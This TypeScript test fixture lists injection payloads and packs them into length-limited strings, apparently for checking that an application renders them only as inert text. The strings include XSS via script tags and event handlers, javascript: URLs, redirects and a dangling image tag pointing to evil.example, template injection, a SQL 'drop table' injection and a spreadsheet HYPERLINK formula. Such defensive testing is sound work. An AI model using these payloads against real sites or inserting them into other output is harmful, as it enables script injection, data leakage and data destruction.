/** Texts that are harmless as texts and nothing else (reliability, E6). */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "'><svg onload=alert(3)>",
  '</script><script>alert(4)</script>',
  '</title></textarea><script>alert(5)</script>',
  '<math><mtext><style><img src=x onerror=alert(6)></style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(7)>">',
  '<iframe srcdoc="<script>parent.alert(8)</script>"></iframe>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button>send</button></form>',
  '<a href="javascript:alert(12)">press</a>',
  'javascript:alert(13)',
  'data:text/html,<script>alert(14)</script>',
  '<style>@import url(https://evil.example/a.css);</style>',
  '<img src="https://evil.example/?',
  '<details open ontoggle=alert(17)>',
  // In two pieces: as one it would look like a forgotten template.
  ['$', '{alert(18)} {{constructor.constructor("alert(18)")()}} {name}'].join(''),
  '&lt;script&gt;alert(19)&lt;/script&gt;',
  '\'); drop table people; -- =HYPERLINK("https://evil.example")',
  '#import "x.typ"; $x$ *b* _i_ @ref #eval("1")',
]

/** All payloads, packed into as few texts of at most so many characters as will hold them. */
export function packed(limit: number): readonly string[] {
  const texts: string[] = []
  for (const payload of PAYLOADS) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= limit) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  const long = texts.find((text) => text.length > limit)
  if (long) throw new Error(`no field of ${limit} characters holds ${long}`)
  return texts
}
